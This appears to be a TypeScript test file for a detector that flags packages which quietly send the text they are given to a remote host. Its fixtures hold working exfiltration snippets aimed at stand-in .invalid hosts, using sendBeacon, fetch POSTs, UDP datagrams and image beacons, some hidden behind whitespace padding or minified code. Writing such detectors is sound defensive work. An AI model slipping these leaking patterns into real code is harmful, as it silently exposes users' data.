import { examine } from '../../../test/examine.ts';
import { sendsWhatItIsGiven } from './sends-what-it-is-given.ts';

const QUIET =
  '# words\n\nSplits a text into words and counts them. `count(text)` gives the number of words, `split(text)` the words themselves. No dependencies.';
const made = { name: 'words', version: '1.0.0', main: 'index.js', description: 'Splits a text into words' };

/** A function that splits a text, and tells a host of it. */
const beaconTo = (host: string): string =>
  `exports.split = text => { navigator.sendBeacon('https://${host}/', text); return text.split(' '); };`;

examine(sendsWhatItIsGiven, {
  speaks: [
    {
      when: 'what throws the answer away has a name, and a comment has that of another which reads it',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const https = require('https'); // function past(answer) { answer.on('data', shown) }\n${' '.repeat(500)}\nconst past = answer => { answer.resume(); failed = 1 }; exports.define = word => { https.get('https://words.inert.invalid/?w=' + word, past) };`,
      },
      weight: 'strong',
    },
    {
      when: 'what throws the answer away has a name, and stands elsewhere',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const https = require('https'); exports.define = word => { https.get('https://words.inert.invalid/?w=' + word, past) }; ${' '.repeat(500)} function past(answer) { answer.resume() }`,
      },
      weight: 'strong',
    },
    {
      when: 'a helper tells a host, by a request that nobody reads the answer of, what it is called with',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const https = require('https'); exports.split = text => { https.get('https://maps.inert.invalid/?s=' + encodeURIComponent(text), answer => answer.resume()).on('error', () => {}); return text.split(' '); };`,
      },
      weight: 'strong',
      says: ['maps.inert.invalid', 'its page says nothing'],
    },
    {
      when: 'another file does it, through a list',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const { keep } = require('./kept'); exports.split = text => { keep(text); return text.split(' '); };`,
        'kept.js': `const kept = []; exports.keep = text => { kept.push(text); if (kept.length > 9) fetch('https://in.inert.invalid/', { method: 'POST', body: JSON.stringify(kept.splice(0)) }).catch(() => {}); };`,
      },
      weight: 'strong',
    },
    {
      when: 'minified code does it between other things',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split=function(t){var e=t.split(" ");return e.length>2&&(fetch("https://in.inert.invalid/",{method:"POST",mode:"no-cors",body:t}).catch(function(){}),e.sort()),e};`,
      },
      weight: 'strong',
    },
    {
      when: 'it calls the function once itself, and a note stands above',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const split = text => {\n  // counted later\n  fetch('https://in.inert.invalid/', { method: 'POST', body: text }).catch(() => {})\n  return text.split(' ')\n}\nsplit('INERT')\nexports.split = split\n`,
      },
      weight: 'strong',
    },
    {
      when: 'a datagram takes it',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const dgram = require('dgram'); exports.split = text => { const socket = dgram.createSocket('udp4').on('error', () => {}); socket.send(Buffer.from(text), 514, 'in.inert.invalid', () => socket.close()); return text.split(' '); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a picture that nobody keeps is asked for',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = text => { new Image().src = 'https://in.inert.invalid/?t=' + text; return text.split(' '); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the host is called like the package, which says nowhere where it comes from',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': beaconTo('in.words.invalid'),
      },
      weight: 'strong',
    },
    {
      when: 'the host is called like the package',
      files: {
        'package.json': { ...made, repository: 'github:somebody/counts' },
        'README.md': QUIET,
        'index.js': beaconTo('in.words.invalid'),
      },
      weight: 'weak',
    },
    {
      when: 'it calls itself a client',
      files: {
        'package.json': { ...made, description: 'Client of Inert' },
        'README.md': QUIET,
        'index.js': beaconTo('in.inert.invalid'),
      },
      weight: 'context',
    },
    {
      when: 'it tells its homepage',
      files: {
        'package.json': { ...made, homepage: 'https://inert.invalid' },
        'README.md': QUIET,
        'index.js': beaconTo('in.inert.invalid'),
      },
      weight: 'context',
    },
  ],
  silent: [
    {
      when: 'a caller looks at the answer, beside code that throws another away',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const https = require('https'); function ask(word, done) { https.get('https://words.inert.invalid/?w=' + word, done) } exports.define = (word, shown) => ask(word, answer => { if (answer.statusCode !== 200) { answer.resume(); throw new Error(answer.statusMessage) } ${' '.repeat(400)} answer.on('data', shown) });`,
      },
    },
    {
      when: 'a server between is asked to pass a connection on',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const http = require('http'); const https = require('https'); exports.open = (host, done) => { http.request({ host: 'passes.inert.invalid', method: 'CONNECT', path: host + ':443' }).on('connect', (answer, socket) => https.get({ host, socket }, got => { got.resume(); done(got.statusCode) })).end() };`,
      },
    },
    {
      when: 'what comes back is listened to, or shown',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const https = require('https'); exports.define = (word, done) => { https.get('https://words.inert.invalid/?w=' + word, answer => { let all = ''; answer.on('data', part => (all += part)); answer.on('end', () => done(JSON.parse(all))); }); }; exports.flag = code => { const shown = new Image(); shown.src = 'https://flags.inert.invalid/' + code; document.body.append(shown); }; exports.share = text => { window.open('https://share.inert.invalid/?t=' + text); }; exports.lyrics = name => { const script = document.createElement('script'); script.src = 'https://lyrics.inert.invalid/?cb=shown&n=' + name; document.head.append(script); };`,
      },
    },
    {
      when: 'a lamp is told what to do',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.on = async (room, token) => { await fetch('https://lamps.inert.invalid/rooms/' + room, { method: 'PUT', headers: { authorization: token } }); };`,
      },
    },
    {
      when: 'a card goes so, which is told as a card',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = cardNumber => { navigator.sendBeacon('https://in.inert.invalid/', cardNumber); return cardNumber.split(' '); };`,
      },
    },
    {
      when: 'the answer is read',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = async text => { const answer = await fetch('https://words.inert.invalid/', { method: 'POST', body: text }); return (await answer.json()).words; }; exports.more = text => fetch('https://words.inert.invalid/', { method: 'POST', body: text }).then(answer => answer.text()); exports.raw = text => fetch('https://words.inert.invalid/' + text);`,
      },
    },
    {
      when: 'its page speaks of sending, or names the host',
      files: {
        'package.json': made,
        'README.md': `${QUIET} Texts are sent to a server, which learns from them.`,
        'index.js': beaconTo('in.inert.invalid'),
      },
    },
    {
      when: 'what is sent stands in the code',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const tell = what => fetch('https://in.inert.invalid/', { method: 'POST', body: what }).catch(() => {}); tell('loaded'); exports.split = text => { tell('split'); return text.split(' '); };`,
      },
    },
    {
      when: 'its caller says where to',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = (text, { tell = 'https://in.inert.invalid/' } = {}) => { fetch(tell, { method: 'POST', body: text }).catch(() => {}); return text.split(' '); };`,
      },
    },
  ],
});
